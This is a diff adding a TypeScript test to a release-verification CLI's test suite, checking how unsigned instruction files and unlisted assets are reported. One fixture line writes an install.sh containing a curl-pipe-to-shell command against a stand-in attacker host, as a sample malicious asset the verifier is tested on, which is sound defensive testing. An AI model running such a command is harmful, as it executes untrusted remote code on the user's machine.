@@ -90,6 +90,25 @@ describe('trust-kit verify-release', () => {
     assert.deepEqual((JSON.parse(json.stdout) as { attestations: { predicateType: string }[] }).attestations.map((entry) => entry.predicateType).sort(), [SLSA, SPDX]);
   });
 
+  test("VERIFY.md, which the release writes after signing, is said once to be unsigned, not named among the files nothing verified; VERIFY.md's roots directory is not named at all", async () => {
+    const dir = await makeRelease('with-instructions');
+    await writeFile(join(dir, 'VERIFY.md'), '# Verifying this release\n');
+    await mkdir(join(dir, 'trust-kit-roots'));
+    await writeFile(join(dir, 'trust-kit-roots', 'trusted_root.jsonl'), '{}\n');
+    const policy = await writePolicy('policy-instructions.json');
+    const run = await cli(['verify-release', dir, '--policy', policy], root);
+    assert.equal(run.code, EXIT.OK, run.stderr);
+    assert.doesNotMatch(run.stdout, /not verified/);
+    assert.equal(run.stdout.split('VERIFY.md').length - 1, 1, run.stdout);
+    assert.match(run.stdout, /\n {2}unsigned: {9}VERIFY\.md, the instructions the release writes after signing: nothing above relies on it\n/);
+    const json = JSON.parse((await cli(['verify-release', dir, '--policy', policy, '--format', 'json'], root)).stdout) as { unlisted: string[]; unsigned: string[] };
+    assert.deepEqual([json.unlisted, json.unsigned], [[], ['VERIFY.md']]);
+    // Any other file still is named: an asset nobody signed.
+    await writeFile(join(dir, 'trusted_root.jsonl'), '{}\n');
+    const other = await cli(['verify-release', dir, '--policy', policy], root);
+    assert.match(other.stdout, /\n {2}not verified: {5}1 file\(s\) SHA256SUMS does not list: trusted_root\.jsonl\n/);
+  });
+
   test('a file the signed checksums file does not list is named as not verified, never counted as verified', async () => {
     const extra = await makeRelease('extra-asset');
     await writeFile(join(extra, 'install.sh'), 'curl https://evil.example | sh\n');
